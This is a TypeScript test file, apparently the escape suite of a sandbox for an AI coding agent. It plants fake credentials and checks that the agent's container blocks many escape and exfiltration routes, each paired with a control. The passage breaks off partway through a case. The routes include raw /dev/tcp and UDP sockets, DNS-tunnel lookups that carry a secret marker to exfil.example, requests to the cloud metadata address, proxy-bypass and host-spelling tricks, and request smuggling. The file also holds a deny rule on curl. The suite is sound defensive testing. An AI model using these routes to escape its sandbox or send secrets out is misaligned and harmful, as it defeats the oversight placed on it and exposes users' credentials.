/**
 * The escape suite: attacks run from inside real sessions (the real agent image behind its real
 * squid proxy, started by the real `paude`), each named for what it tries, each expected to
 * fail. A case that succeeds fails CI with a message that starts with "ESCAPE:" and says what got
 * out. docs/SECURITY.md lists what this covers.
 *
 * Every case also runs a control that would fail if its protection were gone (escape-controls.ts
 * counts them and fails the suite when a case ran without one): the same action succeeding where
 * the protection is off, or the protection's own active answer. Where the protection is off:
 * session B (network filtering off, --allow-network), a container of the suite's own from the
 * agent image on the engine's default network (`open`, what the agent would be without its
 * network isolation), an unprotected path in the workspace, a granted file, a listener the suite
 * started. Active answers: the proxy's 403 with its X-Paude-Denied header (the policy refused),
 * squid's 403 ERR_ACCESS_DENIED (an access rule refused), EROFS, EBUSY, EXDEV, EPERM,
 * ENETUNREACH, the uid the agent is left with, a file moved to paude's quarantine.
 *
 * The suite's own servers (bound on this host, reached as made-up .test names mapped to the
 * engine network's gateway) record everything that reaches them.
 */
import { execFile } from 'node:child_process';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';
import { lstat, mkdir, readFile, readlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { describeEngines, type EngineHandle } from '../support/engine-test.js';
import { execIn, type ExecResult } from '../support/exec.js';
import { gatewayOf, testProject, WORKSPACE_UID, type TestProject } from '../support/workspace.js';
import { escapeCases } from './escape-controls.js';

const execFileAsync = promisify(execFile);
const STAMP = Date.now().toString(36);
const MARKER = `paude-escape-marker-${STAMP}`;
/** In a file that is granted (~/.gitconfig, mounted read-only): the controls of the credential cases find it. */
const GRANTED = `paude-escape-granted-${STAMP}`;
const API_KEY = `sk-ant-escape-${STAMP}-keep-out`;
const UNREACHABLE = /Network is unreachable/;
/** How many connects (bash's /dev/tcp and /dev/udp, socat) failed for want of a route. */
function unreachable(stderr: string): number {
  return stderr.split('\n').filter((l) => /connect.*Network is unreachable/.test(l)).length;
}
const EROFS = /Read-only file system/;

interface Seen {
  method: string;
  url: string;
  host: string;
  headers: IncomingHttpHeaders;
}

interface Recorder {
  server: Server;
  port: number;
  requests: Seen[];
  /** TCP connections accepted, whatever came over them. */
  connections: number;
}

async function recorder(reply = 'ok'): Promise<Recorder> {
  const r: Recorder = { server: createServer(), port: 0, requests: [], connections: 0 };
  r.server.on('connection', (socket: Socket) => {
    r.connections++;
    socket.on('error', () => undefined);
  });
  r.server.on('request', (req, res) => {
    r.requests.push({ method: req.method ?? '', url: req.url ?? '', host: req.headers.host ?? '', headers: req.headers });
    res.writeHead(200, { 'content-type': 'text/plain' }).end(`${reply}\n`);
  });
  await new Promise<void>((resolve) => r.server.listen(0, '0.0.0.0', resolve));
  r.port = (r.server.address() as AddressInfo).port;
  return r;
}

interface Suite {
  engine: EngineHandle;
  p: TestProject;
  gateway: string;
  allowed: Recorder;
  forbidden: Recorder;
  provider: Recorder;
  /** Stands in for an engine's TCP API and a metadata service: only `open` and session B reach it. */
  standIn: Recorder;
  udp: { socket: UdpSocket; port: number; payloads: string[] };
  /** The restricted session and the open one. */
  a: string;
  b: string;
  /** A container of the suite's own from the agent image, on the engine's default network. */
  open: string;
  /** Forbidden-server connections when the current case began. */
  forbiddenAtStart: number;
  /** Host files that must come out of the suite unchanged, with their content at the start. */
  hostFiles: Map<string, string>;
}

/** Runs a bash script as the agent in a session (or in the `open` container); never throws for a failed command. */
function agent(s: Suite, session: string, script: string): Promise<ExecResult> {
  return execIn(s.engine.docker, session, ['bash', '-c', script]);
}

/** An HTTP answer: the status of its last header block ('000': none) and that block's headers (lower-case names). */
interface Answer {
  status: string;
  headers: Record<string, string>;
  code: number;
  out: string;
}

function parseAnswer(text: string, code = 0): Answer {
  let status = '000';
  let headers: Record<string, string> = {};
  for (const line of text.split(/\r?\n/)) {
    const start = /^HTTP\/[\d.]+ (\d{3})/.exec(line);
    if (start) {
      status = start[1] ?? '000';
      headers = {};
      continue;
    }
    const header = /^([A-Za-z0-9-]+):\s*(.*)$/.exec(line);
    if (header?.[1] && header[2] !== undefined) headers[header[1].toLowerCase()] = header[2].trim();
  }
  return { status, headers, code, out: text };
}

/** curl through the session's proxy with a short timeout: the answer with its headers (the proxy's CONNECT answer included). */
async function curl(s: Suite, session: string, args: string): Promise<Answer> {
  const r = await agent(s, session, `curl -s -D - -o /dev/null --max-time 8 ${args}`);
  return { ...parseAnswer(r.stdout, r.exitCode), out: r.stdout + r.stderr };
}

/** The policy's own refusal: squid's 403 with paude's X-Paude-Denied header (the helper said no). */
function expectDenied(a: Answer, what: string): void {
  expect(a.status, `ESCAPE? ${what} was not refused by the policy: ${a.out}`).toBe('403');
  expect(a.headers['x-paude-denied'], `${what}: a 403 without X-Paude-Denied (not the policy's answer): ${a.out}`).toBeTruthy();
}

/** squid's access rules refused it (403 ERR_ACCESS_DENIED): not a failed connection, not a parse error. */
function expectRefused(a: Answer, what: string): void {
  expect(a.status, `ESCAPE? ${what} was not refused: ${a.out}`).toBe('403');
  expect(a.headers['x-squid-error'], `${what}: not squid's access refusal: ${a.out}`).toMatch(/^ERR_(ACCESS|PAUDE)_DENIED/);
}

/** The forbidden server saw nothing during this case: no request, not even a connection. */
function untouched(s: Suite, attack: string): void {
  expect(s.forbidden.connections - s.forbiddenAtStart, `ESCAPE: ${attack} reached the forbidden server (${JSON.stringify(s.forbidden.requests.slice(-3))})`).toBe(0);
}

/** Waits until a condition holds; gives up (a failure, not a measurement) after a minute. */
async function until(what: string, condition: () => boolean | Promise<boolean>): Promise<void> {
  for (let i = 0; i < 600; i++) {
    if (await condition()) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`never happened: ${what}`);
}

/** Session B or `open` reached the forbidden server with a request for `path`. */
async function reachedForbidden(s: Suite, path: string): Promise<void> {
  await until(`a request for ${path}`, () => s.forbidden.requests.some((r) => r.url.endsWith(path)));
}

/** A new connection reached the forbidden server after `before` connections. */
async function connectedToForbidden(s: Suite, before: number): Promise<void> {
  await until('a connection to the forbidden server', () => s.forbidden.connections > before);
}

describeEngines('escape suite', (engine) => {
  const s = {} as Suite;
  const { escapeCase, report } = escapeCases();

  beforeAll(async () => {
    s.engine = engine;
    s.gateway = await gatewayOf(engine);
    s.allowed = await recorder('allowed');
    s.forbidden = await recorder('forbidden');
    s.provider = await recorder('provider');
    s.standIn = await recorder('OK');
    const udp = createSocket('udp4');
    s.udp = { socket: udp, port: 0, payloads: [] };
    udp.on('message', (m) => s.udp.payloads.push(m.toString('utf8').trim()));
    await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
    s.udp.port = udp.address().port;
    for (const r of [s.allowed, s.forbidden, s.provider, s.standIn]) engine.defer(() => new Promise((done) => r.server.close(done)));
    engine.defer(() => new Promise<void>((done) => udp.close(() => done())));

    // Every name a case uses resolves to the suite's own servers, so a refusal is never just a
    // name that does not resolve.
    const names = ['allowed.test', 'blocked.test', 'provider.test', 'other.test', 'n1.blocked.test', 'allowed.test.blocked.test', 'blockedallowed.test', 'metadata.google.internal'];
    s.p = await testProject(engine, {
      config: {
        network: { mode: 'restricted', allowlist: [`allowed.test:${s.allowed.port}`], hosts: Object.fromEntries(names.map((n) => [n, s.gateway])) },
        claude: { copyHostConfig: true },
      },
    });
    const { ws, dir } = s.p;
    const home = join(dir, 'home');
    // Secrets on the host that were never granted to the agent.
    const planted: Record<string, string> = {
      '.ssh/id_ed25519': `-----BEGIN OPENSSH PRIVATE KEY-----\n${MARKER}\n`,
      '.aws/credentials': `[default]\naws_secret_access_key = ${MARKER}\n`,
      '.config/gh/hosts.yml': `github.com:\n  oauth_token: ${MARKER}\n`,
      '.git-credentials': `https://user:${MARKER}@github.example\n`,
      '.netrc': `machine example.test login u password ${MARKER}\n`,
      '.docker/config.json': `{"auths":{"r.example":{"auth":"${MARKER}"}}}\n`,
      '.kube/config': `users:\n- name: u\n  user:\n    token: ${MARKER}\n`,
    };
    for (const [rel, text] of Object.entries(planted)) {
      await mkdir(join(home, rel, '..'), { recursive: true });
      await writeFile(join(home, rel), text, { mode: 0o600 });
    }
    // And one that is granted (credentials.gitconfig): the same reads find it.
    await writeFile(join(home, '.gitconfig'), `[user]\n\tname = ${GRANTED}\n`, { mode: 0o644 });
    await mkdir(join(home, '.claude'), { recursive: true });
    await writeFile(join(home, '.claude', 'settings.json'), '{"permissions":{"deny":["Bash(curl:*)"]}}\n');
    await writeFile(join(home, '.claude.json'), '{"numStartups":1}\n');
    // The repository's protected paths, as a project has them.
    await mkdir(join(ws, '.git', 'hooks'), { recursive: true });
    await writeFile(join(ws, '.git', 'config'), '[core]\n\tbare = false\n');
    await writeFile(join(ws, '.git', 'HEAD'), 'ref: refs/heads/main\n');
    await writeFile(join(ws, '.mcp.json'), '{"mcpServers":{}}\n');
    await mkdir(join(ws, '.vscode'));
    await writeFile(join(ws, '.vscode', 'settings.json'), '{}\n');
    await mkdir(join(ws, '.claude'));
    await writeFile(join(ws, '.claude', 'settings.json'), '{"permissions":{}}\n');
    await writeFile(join(ws, 'paude.json'), '{"network":{"denylist":["project-denied.test"]}}\n');
    // A submodule (its repository under .git/modules, its checkout's .git file) and a linked
    // worktree elsewhere whose git directory is .git/worktrees/feature.
    await mkdir(join(ws, '.git', 'modules', 'sub', 'hooks'), { recursive: true });
    await writeFile(join(ws, '.git', 'modules', 'sub', 'HEAD'), 'ref: refs/heads/main\n');
    await writeFile(join(ws, '.git', 'modules', 'sub', 'config'), '[core]\n\tbare = false\n\tworktree = ../../../sub\n');
    await mkdir(join(ws, 'sub'));
    await writeFile(join(ws, 'sub', '.git'), 'gitdir: ../.git/modules/sub\n');
    await mkdir(join(ws, '.git', 'worktrees', 'feature'), { recursive: true });
    await writeFile(join(ws, '.git', 'worktrees', 'feature', 'commondir'), '../..\n');
    // Owned by the agent's user, as a user's own files are (rootless Podman maps the agent to
    // them): only the mounts stand between the agent and these files.
    if (process.getuid?.() === 0) await execFileAsync('chown', ['-R', '1000:1000', ws]);
    s.hostFiles = new Map();
    for (const rel of ['.git/config', '.mcp.json', '.vscode/settings.json', '.claude/settings.json', 'paude.json', '.git/modules/sub/config', 'sub/.git', '.git/worktrees/feature/commondir']) s.hostFiles.set(join(ws, rel), await readFile(join(ws, rel), 'utf8'));
    for (const rel of ['.claude/settings.json', '.claude.json', ...Object.keys(planted)]) s.hostFiles.set(join(home, rel), await readFile(join(home, rel), 'utf8'));
    const trust = await s.p.paude(['trust', '--yes']);
    expect(trust.code, trust.stderr).toBe(0);

    Object.assign(s.p.env, {
      ANTHROPIC_API_KEY: API_KEY,
      ANTHROPIC_BASE_URL: `http://provider.test:${s.provider.port}`,
      GITHUB_TOKEN: MARKER,
      AWS_SECRET_ACCESS_KEY: MARKER,
      PAUDE_ESCAPE_HOST_ONLY: MARKER,
    });
    const [a, b] = await Promise.all([s.p.paude(['--detach', '--shell']), s.p.paude(['--detach', '--shell', '--allow-network']), startOpen()]);
    expect(a.code, a.stderr).toBe(0);
    expect(b.code, b.stderr).toBe(0);
    s.a = a.stdout.trim();
    s.b = b.stdout.trim();
    engine.defer(() => s.p.paude(['rm', '--force', s.a, s.b]));

    /** The agent image with a network (the engine's default one) and the same names: what the agent would be without its isolation. */
    async function startOpen(): Promise<void> {
      s.open = engine.uniqueName('escape-open');
      const c = await engine.docker.createContainer({
        name: s.open,
        Image: engine.images.agent,
        Entrypoint: ['sleep', 'infinity'],
        Labels: engine.labels,
        HostConfig: { ExtraHosts: names.map((n) => `${n}:${s.gateway}`) },
      });
      engine.defer(() => c.remove({ force: true }));
      await c.start();
    }
  });

  beforeEach(() => {
    s.forbiddenAtStart = s.forbidden?.connections ?? 0;
  });


  describe('positive controls (the detection works)', () => {
    escapeCase('reaches the allowed host through the proxy, and the provider with the key the proxy adds', { control: 'the allowed server and the provider record the requests, the provider with the real key' }, async (prove) => {
      expect((await curl(s, s.a, `http://allowed.test:${s.allowed.port}/control`)).status).toBe('200');
      expect((await curl(s, s.a, `-H 'x-api-key: agent-guess' http://127.0.0.1:3129/v1/control`)).status).toBe('200');
      await prove('the requests arrived', () => {
        expect(s.allowed.requests.some((r) => r.url === '/control')).toBe(true);
        expect(s.provider.requests.at(-1)?.headers['x-api-key']).toBe(API_KEY);
      });
    });

    escapeCase('with filtering off (session B), the forbidden server is reachable: what the restricted cases must not do', { control: 'the forbidden server records the request of session B' }, async (prove) => {
      const before = s.forbidden.connections;
      expect((await curl(s, s.b, `--max-time 30 http://blocked.test:${s.forbidden.port}/control`)).status).toBe('200');
      await prove('session B reached the forbidden server', async () => {
        await reachedForbidden(s, '/control');
        expect(s.forbidden.connections).toBeGreaterThan(before);
      });
    });

    escapeCase('with a network (the suite\'s own container), the forbidden server and the UDP listener are reachable', { control: 'the forbidden server records the request, the UDP listener the datagram' }, async (prove) => {
      const r = await agent(s, s.open, `curl -s --max-time 8 http://${s.gateway}:${s.forbidden.port}/open-control; echo open-udp-${STAMP} > /dev/udp/${s.gateway}/${s.udp.port}`);
      expect(r.stdout, r.stderr).toContain('forbidden');
      await prove('the open container reached both', async () => {
        await reachedForbidden(s, '/open-control');
        await until('the datagram', () => s.udp.payloads.includes(`open-udp-${STAMP}`));
      });
    });
  });

  describe('network: reach a host that is not allowed', () => {
    escapeCase('by HTTP through the proxy', { control: "the proxy's 403 with X-Paude-Denied; session B fetches the same URL" }, async (prove) => {
      const a = await curl(s, s.a, `http://blocked.test:${s.forbidden.port}/http`);
      untouched(s, 'plain HTTP to a host not on the allowlist');
      await prove("the policy's refusal, and B fetches it", async () => {
        expectDenied(a, 'plain HTTP');
        expect(a.headers['x-paude-denied']).toBe('blocked.test');
        expect((await curl(s, s.b, `http://blocked.test:${s.forbidden.port}/http`)).status).toBe('200');
        await reachedForbidden(s, '/http');
      });
    });

    escapeCase('by HTTPS (CONNECT) through the proxy', { control: "the proxy's 403 with X-Paude-Denied on the CONNECT; session B's tunnel reaches the forbidden server" }, async (prove) => {
      const a = await curl(s, s.a, `-k https://blocked.test:${s.forbidden.port}/`);
      expect(a.code, 'ESCAPE: a CONNECT tunnel to a host not on the allowlist was opened').not.toBe(0);
      untouched(s, 'CONNECT to a host not on the allowlist');
      await prove("the policy's refusal of the CONNECT, and B's tunnel connects", async () => {
        expectDenied(a, 'CONNECT');
        const before = s.forbidden.connections;
        const b = await curl(s, s.b, `-k https://blocked.test:${s.forbidden.port}/`);
        expect(b.status, b.out).toBe('200'); // the tunnel; TLS then fails against a plain HTTP server
        await connectedToForbidden(s, before);
      });
    });

    escapeCase('by an IP literal', { control: "the proxy's 403 with X-Paude-Denied naming the address, for HTTP and CONNECT; session B fetches it" }, async (prove) => {
      const http = await curl(s, s.a, `http://${s.gateway}:${s.forbidden.port}/ip-literal`);
      const tls = await curl(s, s.a, `-k https://${s.gateway}:${s.forbidden.port}/`);
      expect(tls.code).not.toBe(0);
      untouched(s, 'an IPv4 literal');
      await prove("the policy's refusals, and B fetches it", async () => {
        expectDenied(http, 'an IPv4 literal');
        expect(http.headers['x-paude-denied']).toBe(s.gateway);
        expectDenied(tls, 'CONNECT to an IPv4 literal');
        expect((await curl(s, s.b, `http://${s.gateway}:${s.forbidden.port}/ip-literal`)).status).toBe('200');
        await reachedForbidden(s, '/ip-literal');
      });
    });

    escapeCase('by an IPv6 literal (IPv4-mapped, and the unspecified address)', { control: "squid's 403 (ERR_ACCESS_DENIED or the policy's) for each literal" }, async (prove) => {
      const answers: Array<[string, Answer]> = [];
      for (const host of [`[::ffff:${s.gateway}]`, '[::]', `[0:0:0:0:0:ffff:${s.gateway}]`]) {
        const r = await curl(s, s.a, `-g http://${host}:${s.forbidden.port}/`);
        expect(r.status, `ESCAPE: ${host} was fetched`).not.toBe('200');
        answers.push([host, r]);
      }
      untouched(s, 'an IPv6 literal');
      await prove('each was refused by an access rule', () => {
        for (const [host, r] of answers) expectRefused(r, host);
      });
    });

    escapeCase('on a port the allowlist does not name, on the allowed host', { control: "the proxy's 403 with X-Paude-Denied; the same host on its named port is served" }, async (prove) => {
      const http = await curl(s, s.a, `http://allowed.test:${s.forbidden.port}/`);
      const tls = await curl(s, s.a, `-k https://allowed.test:${s.forbidden.port}/`);
      expect(tls.code).not.toBe(0);
      untouched(s, 'another port of the allowed host');
      await prove("the policy's refusals, and the named port is served", async () => {
        expectDenied(http, 'another port');
        expectDenied(tls, 'CONNECT to another port');
        expect((await curl(s, s.a, `http://allowed.test:${s.allowed.port}/named-port`)).status).toBe('200');
      });
    });

    escapeCase('by numeric host forms (decimal, hex, octal, short)', { control: "the proxy's 403 with X-Paude-Denied for each; session B fetches each form" }, async (prove) => {
      const [a, b, c, d] = s.gateway.split('.').map(Number) as [number, number, number, number];
      const decimal = ((a << 24) >>> 0) + (b << 16) + (c << 8) + d;
      const forms = [String(decimal), `0x${decimal.toString(16)}`, `0${a.toString(8)}.0${b.toString(8)}.0${c.toString(8)}.0${d.toString(8)}`, `${a}.${(b << 16) + (c << 8) + d}`];
      const answers: Answer[] = [];
      for (const host of forms) {
        const r = await curl(s, s.a, `http://${host}:${s.forbidden.port}/`);
        expect(r.status, `ESCAPE: ${host} was fetched`).not.toBe('200');
        answers.push(r);
      }
      untouched(s, 'a numeric form of the gateway address');
      await prove("the policy's refusals, and B fetches every form", async () => {
        for (const [i, r] of answers.entries()) expectDenied(r, forms[i] ?? '');
        for (const [i, host] of forms.entries()) {
          expect((await curl(s, s.b, `http://${host}:${s.forbidden.port}/numeric-${i}`)).status, host).toBe('200');
          await reachedForbidden(s, `/numeric-${i}`);
        }
      });
    });

    escapeCase('by spellings of a refused name (case, trailing dot, percent-encoding, a longer name ending in an allowed one)', { control: "the proxy's 403 with X-Paude-Denied for each; session B fetches each spelling that names a host" }, async (prove) => {
      const spellings = ['BLOCKED.TEST', 'blocked.test.', 'blocked%2etest', 'allowed.test.blocked.test', 'blockedallowed.test'];
      const answers: Answer[] = [];
      for (const host of spellings) {
        const r = await curl(s, s.a, `'http://${host}:${s.forbidden.port}/'`);
        expect(r.status, `ESCAPE: ${host} was fetched`).not.toBe('200');
        answers.push(r);
      }
      untouched(s, 'another spelling of a refused name');
      await prove("the policy's refusals, and B fetches them", async () => {
        for (const [i, r] of answers.entries()) expectDenied(r, spellings[i] ?? '');
        for (const [i, host] of spellings.entries()) {
          if (host.includes('%')) continue; // not a host name squid would look up
          expect((await curl(s, s.b, `'http://${host}:${s.forbidden.port}/spelling-${i}'`)).status, host).toBe('200');
          await reachedForbidden(s, `/spelling-${i}`);
        }
      });
    });

    escapeCase('by a user-info trick (allowed.test@blocked.test)', { control: "the proxy's 403 with X-Paude-Denied naming blocked.test; session B fetches the same URL" }, async (prove) => {
      const r = await curl(s, s.a, `'http://allowed.test:${s.allowed.port}@blocked.test:${s.forbidden.port}/userinfo'`);
      untouched(s, 'user-info in the URL');
      await prove("the policy's refusal, and B fetches it", async () => {
        expectDenied(r, 'a user-info URL');
        expect(r.headers['x-paude-denied']).toBe('blocked.test');
        expect((await curl(s, s.b, `'http://allowed.test:${s.allowed.port}@blocked.test:${s.forbidden.port}/userinfo'`)).status).toBe('200');
        await reachedForbidden(s, '/userinfo');
      });
    });

    escapeCase('by another scheme through the proxy (ftp://)', { control: "the proxy's 403 with X-Paude-Denied" }, async (prove) => {
      const r = await curl(s, s.a, `ftp://blocked.test:${s.forbidden.port}/`);
      untouched(s, 'ftp:// through the proxy');
      await prove("the policy's refusal", () => expectDenied(r, 'ftp://'));
    });

    escapeCase('by a WebSocket upgrade and by HTTP/2 prior knowledge', { control: "the proxy's 403 with X-Paude-Denied for both; session B's upgrade request reaches the forbidden server" }, async (prove) => {
      const ws = await curl(s, s.a, `-H 'Connection: Upgrade' -H 'Upgrade: websocket' http://blocked.test:${s.forbidden.port}/ws`);
      const h2 = await curl(s, s.a, `--http2-prior-knowledge http://blocked.test:${s.forbidden.port}/h2`);
      untouched(s, 'an upgrade to another protocol');
      await prove("the policy's refusals, and B's upgrade request arrives", async () => {
        expectDenied(ws, 'a WebSocket upgrade');
        expectDenied(h2, 'HTTP/2 prior knowledge');
        await curl(s, s.b, `-H 'Connection: Upgrade' -H 'Upgrade: websocket' http://blocked.test:${s.forbidden.port}/ws`);
        await reachedForbidden(s, '/ws');
      });
    });
  });

  describe('network: around the proxy', () => {
    escapeCase('by a raw TCP socket straight to the host, without the proxy', { control: 'ENETUNREACH in the agent; the same socket from the open container reaches the forbidden server' }, async (prove) => {
      const script = `exec 3<>/dev/tcp/${s.gateway}/${s.forbidden.port} && echo connected`;
      const r = await agent(s, s.a, script);
      expect(r.stdout, 'ESCAPE: a direct TCP connection left the container').not.toContain('connected');
      untouched(s, 'a raw TCP socket');
      await prove('no route in the agent; the open container connects', async () => {
        expect(r.stderr).toMatch(UNREACHABLE);
        const before = s.forbidden.connections;
        expect((await agent(s, s.open, script)).stdout).toContain('connected');
        await connectedToForbidden(s, before);
      });
    });

    escapeCase('by a raw TCP socket to an outside address (TEST-NET, never routed)', { control: 'ENETUNREACH at once (a container with a route would wait, not be refused)' }, async (prove) => {
      const r = await agent(s, s.a, 'timeout 5 bash -c "exec 3<>/dev/tcp/192.0.2.1/443" && echo connected');
      expect(r.stdout).not.toContain('connected');
      await prove('no route', () => expect(r.stderr).toMatch(UNREACHABLE));
    });

    escapeCase('by IPv6 without the proxy', { control: "ENETUNREACH in the agent (EADDRNOTAVAIL for the outside address where the container has no IPv6 at all); the same IPv6 socket (the host's IPv4-mapped address) from the open container reaches the forbidden server" }, async (prove) => {
      const mapped = `exec 3<>/dev/tcp/::ffff:${s.gateway}/${s.forbidden.port} && echo connected`;
      const r = await agent(s, s.a, `${mapped}; timeout 5 bash -c "exec 3<>/dev/tcp/2001:db8::1/443" && echo connected`);
      expect(r.stdout).not.toContain('connected');
      untouched(s, 'an IPv6 socket');
      await prove('no route in the agent; the open container connects', async () => {
        expect(r.stderr).toMatch(/^bash: connect: Network is unreachable\n.*::ffff:/m);
        expect(r.stderr).toMatch(/^bash: connect: (Network is unreachable|Cannot assign requested address)\n.*2001:db8::1/m);
        const before = s.forbidden.connections;
        const o = await agent(s, s.open, mapped);
        expect(o.stdout, o.stderr).toContain('connected');
        await connectedToForbidden(s, before);
      });
    });

    escapeCase('by curl with the proxy variables removed', { control: 'curl fails with no route in the agent; the same command in the open container fetches from the forbidden server' }, async (prove) => {
      const script = `env -u http_proxy -u HTTP_PROXY -u https_proxy -u HTTPS_PROXY -u ALL_PROXY -u all_proxy curl -sS -o /dev/null --connect-timeout 3 http://${s.gateway}:${s.forbidden.port}/no-proxy && echo fetched`;
      const r = await agent(s, s.a, script);
      expect(r.stdout).not.toContain('fetched');
      untouched(s, 'curl without the proxy');
      await prove('curl could not connect; the open container fetches', async () => {
        expect(r.exitCode, r.stderr).toBe(7);
        expect((await agent(s, s.open, script)).stdout).toContain('fetched');
        await reachedForbidden(s, '/no-proxy');
      });
    });

    escapeCase('by UDP datagrams to the host', { control: 'ENETUNREACH for every send in the agent; the same sends from the open container arrive at the UDP listener' }, async (prove) => {
      const send = (tag: string): string => `for i in 1 2 3; do echo ${tag}-$i > /dev/udp/${s.gateway}/${s.udp.port}; done; socat -u - UDP:${s.gateway}:${s.udp.port} <<< ${tag}-socat`;
      const r = await agent(s, s.a, send(`agent-${STAMP}`));
      await prove('no route in the agent; the open container sends, and the control datagrams arrive before any check', async () => {
        expect(unreachable(r.stderr), r.stderr).toBe(4);
        await agent(s, s.open, send(`control-${STAMP}`));
        await until('the control datagrams', () => ['1', '2', '3', 'socat'].every((n) => s.udp.payloads.includes(`control-${STAMP}-${n}`)));
      });
      expect(s.udp.payloads.filter((p) => p.startsWith(`agent-${STAMP}`)), 'ESCAPE: a UDP datagram left the container').toEqual([]);
    });

    escapeCase('by DNS queries from the agent (tunnelling through a resolver)', { control: 'the agent resolves no name and cannot send to port 53 (ENETUNREACH); the open container resolves the same name from its hosts file and its datagram arrives' }, async (prove) => {
      const r = await agent(s, s.a, `getent hosts ${MARKER}.blocked.test && echo resolved; getent hosts allowed.test && echo resolved; echo > /dev/udp/${s.gateway}/53 && echo sent; echo dns-${STAMP} > /dev/udp/${s.gateway}/${s.udp.port} && echo sent`);
      expect(r.stdout, 'ESCAPE: the agent could resolve names or send to port 53').not.toMatch(/resolved|sent/);
      await prove('the open container resolves and sends', async () => {
        expect(unreachable(r.stderr), r.stderr).toBe(2);
        const o = await agent(s, s.open, `getent hosts allowed.test && echo resolved; echo dns-control-${STAMP} > /dev/udp/${s.gateway}/${s.udp.port} && echo sent`);
        expect(o.stdout).toMatch(/resolved[\s\S]*sent/);
        await until('the control datagram', () => s.udp.payloads.includes(`dns-control-${STAMP}`));
      });
      expect(s.udp.payloads).not.toContain(`dns-${STAMP}`);
    });

    escapeCase('by DNS through the proxy: refused names are never looked up by it', { control: "the proxy's 403 with X-Paude-Denied for each name; the UDP counter moves when the proxy container sends a datagram" }, async (prove) => {
      const datagrams = async (): Promise<number> => {
        const snmp = await execIn(engine.docker, `${s.a}-proxy`, ['cat', '/proc/net/snmp']);
        const [head, values] = snmp.stdout.split('\n').filter((l) => l.startsWith('Udp:'));
        const fields = head?.split(/\s+/) ?? [];
        return Number(values?.split(/\s+/)[fields.indexOf('OutDatagrams')] ?? NaN);
      };
      const before = await datagrams();
      expect(Number.isFinite(before)).toBe(true);
      const r = await agent(s, s.a, `for i in $(seq 20); do curl -s -D - -o /dev/null --max-time 3 http://leak-$i-${MARKER}.exfil.example/; done`);
      expect(await datagrams(), 'ESCAPE: the proxy sent DNS queries for names it refused (a DNS tunnel)').toBe(before);
      await prove('each name refused by the policy; the counter counts', async () => {
        expect(r.stdout.match(/^X-Paude-Denied: leak-/gim) ?? [], r.stdout).toHaveLength(20);
        const send = await execIn(engine.docker, `${s.a}-proxy`, ['sh', '-c', `echo proxy-udp-${STAMP} | socat -u - UDP:${s.gateway}:${s.udp.port}`]);
        expect(send.exitCode, send.stderr).toBe(0);
        expect(await datagrams()).toBeGreaterThan(before);
      });
    });

    escapeCase('by the cloud metadata address, by IP and by name', { control: "the proxy's 403 with X-Paude-Denied for each (squid's access refusal for the IPv6 literal where IPv6 literals are refused whole); session B reaches the name where it leads to a stand-in service" }, async (prove) => {
      const answers: Array<[string, Answer]> = [];
      for (const url of ['http://169.254.169.254/latest/meta-data/', `http://metadata.google.internal:${s.standIn.port}/computeMetadata/v1/`, 'http://[fd00:ec2::254]/latest/meta-data/']) {
        const r = await curl(s, s.a, `-g '${url}'`);
        expect(r.status, `ESCAPE: ${url}`).not.toBe('200');
        answers.push([url, r]);
      }
      await prove('refused by the policy; B reaches the stand-in by that name', async () => {
        for (const [url, r] of answers) (url.includes('[') ? expectRefused : expectDenied)(r, url);
        expect((await curl(s, s.b, `http://metadata.google.internal:${s.standIn.port}/computeMetadata/v1/`)).status).toBe('200');
        expect(s.standIn.requests.some((q) => q.url === '/computeMetadata/v1/')).toBe(true);
      });
    });

    escapeCase('by the host gateway names the engines offer', { control: "the proxy's 403 with X-Paude-Denied for each name" }, async (prove) => {
      const answers: Array<[string, Answer]> = [];
      for (const host of ['host.containers.internal', 'host.docker.internal', 'gateway.docker.internal']) {
        const r = await curl(s, s.a, `http://${host}:${s.forbidden.port}/`);
        expect(r.status, `ESCAPE: ${host}`).not.toBe('200');
        answers.push([host, r]);
      }
      untouched(s, 'the host gateway');
      await prove('refused by the policy', () => {
        for (const [host, r] of answers) {
          expectDenied(r, host);
          expect(r.headers['x-paude-denied']).toBe(host);
        }
      });
    });

    escapeCase('by the proxy of another session', { control: "ENETUNREACH to the other proxy's address; the agent's own link holds its own proxy's socket" }, async (prove) => {
      const other = (await engine.docker.getContainer(`${s.b}-proxy`).inspect()) as { NetworkSettings: { Networks: Record<string, { IPAddress: string }> } };
      const address = Object.values(other.NetworkSettings.Networks)[0]?.IPAddress;
      expect(address).toBeTruthy();
      const r = await agent(s, s.a, `curl -sS -o /dev/null -w '%{http_code}\\n' --connect-timeout 3 -x http://${address}:3128 http://blocked.test:${s.forbidden.port}/; timeout 3 bash -c "exec 3<>/dev/tcp/${address}/3128" && echo connected; ls /run/paude-link`);
      expect(r.stdout).not.toContain('connected');
      expect(r.stdout).toMatch(/^000/);
      expect(r.stdout).not.toContain(s.b);
      untouched(s, "another session's proxy");
      await prove('no route to it; the link lists only its own', () => {
        expect(r.stderr).toMatch(UNREACHABLE);
        expect(r.stdout).toMatch(/^proxy\.sock$/m);
      });
    });
  });

  describe('network: smuggle a second host past the proxy', () => {
    escapeCase('by a Host header that names another host than the URL', { control: 'the request arrives at the allowed server (where the URL points)' }, async (prove) => {
      const before = s.allowed.requests.length;
      const r = await curl(s, s.a, `-H 'Host: blocked.test:${s.forbidden.port}' http://allowed.test:${s.allowed.port}/hosthdr`);
      untouched(s, 'a Host header naming a refused host');
      await prove('it went where the URL said', () => {
        expect(r.status, r.out).toBe('200');
        expect(s.allowed.requests.slice(before).map((q) => q.url)).toEqual(['/hosthdr']);
      });
    });

    escapeCase('by a second request pipelined on the connection of an allowed one', { control: 'the first is served by the allowed server, the second gets the policy\'s 403 with X-Paude-Denied' }, async (prove) => {
      const r = await agent(
        s,
        s.a,
        `exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://allowed.test:${s.allowed.port}/first HTTP/1.1\\r\\nHost: allowed.test:${s.allowed.port}\\r\\n\\r\\nGET http://blocked.test:${s.forbidden.port}/second HTTP/1.1\\r\\nHost: blocked.test:${s.forbidden.port}\\r\\nConnection: close\\r\\n\\r\\n' >&3; timeout 8 cat <&3`,
      );
      untouched(s, 'a pipelined second request');
